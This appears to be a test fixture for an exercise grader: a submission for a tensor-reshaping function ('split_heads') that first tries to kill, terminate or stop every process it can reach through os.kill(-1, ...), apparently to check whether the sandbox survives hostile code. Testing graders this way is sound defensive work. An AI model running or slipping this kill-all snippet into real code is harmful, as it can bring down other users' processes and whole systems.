"""Kills every process that it can see, but its own."""

KIND = "resources"
EXERCISE = "03.split_heads"
# Right: nobody that it may kill is needed for the reply.
EARNS = 2
CELL = r"""
import os
import signal

for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
    try:
        os.kill(-1, number)
    except OSError:
        pass


def split_heads(x, num_heads):
    B, T, D = x.shape
    return x.reshape(B, T, num_heads, D // num_heads).transpose(1, 2)
"""
